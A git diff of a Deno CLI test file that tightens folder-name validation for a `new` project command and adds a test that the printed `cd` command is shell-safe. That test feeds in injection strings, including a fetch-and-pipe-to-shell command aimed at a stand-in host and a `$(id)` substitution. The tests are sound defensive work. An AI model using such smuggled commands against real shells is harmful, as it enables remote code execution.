@@ -50,7 +50,8 @@ Deno.test("`new` leaves a folder alone that has something in it, and rejects odd
     await Deno.mkdir(`${cwd}/mine`);
     await Deno.writeTextFile(`${cwd}/mine/main.ts`, "mine");
     const name = (name: string) =>
-      `its name is "${name}", expected letters, digits, "_", "-" and "."`;
+      `its name is "${name}", expected letters, digits, "_", and "-" and "." between them, ` +
+      'as in "my-notes"';
     for (
       const [folder, message] of [
         ["mine", '"main.ts" is in mine, expected it empty'],
@@ -59,10 +60,15 @@ Deno.test("`new` leaves a folder alone that has something in it, and rejects odd
         ["a b", name("a b")],
         ["x/a:b", name("a:b")],
         ["dot.", name("dot.")],
+        [".git", name(".git")],
+        ["x/.config", name(".config")],
+        ["node_modules", name("node_modules")],
+        ["-x", name("-x")],
+        ["--help", name("--help")],
         ["/", name("")],
       ]
     ) {
-      deepStrictEqual(await cli(["new", folder!], { cwd }), {
+      deepStrictEqual(await cli(["new", "--", folder!], { cwd }), {
         code: 1,
         stdout: "",
         stderr: `Cannot make a project: ${message}\n`,
@@ -82,4 +88,17 @@ Deno.test("`new .` makes the project here, in a repository too, under the folder
       stderr: "",
     });
     match(await Deno.readTextFile(`${cwd}/README.md`), /^# notes\n/);
+  }));
+
+Deno.test("`new` prints the folder so that a shell takes it as it is", () =>
+  inFolder(async (cwd) => {
+    for (const parent of ["x;curl evil|sh", "-it's $(id)"]) {
+      const { stdout } = await cli(["new", "--", `${parent}/ok`], { cwd });
+      const [, command] = /Next: (.*) && deno task dev\n$/.exec(stdout)!;
+      const { stdout: there } = await new Deno.Command("sh", {
+        args: ["-c", `${command} && pwd`],
+        cwd,
+      }).output();
+      strictEqual(new TextDecoder().decode(there), `${cwd}/${parent}/ok\n`);
+    }
   }));
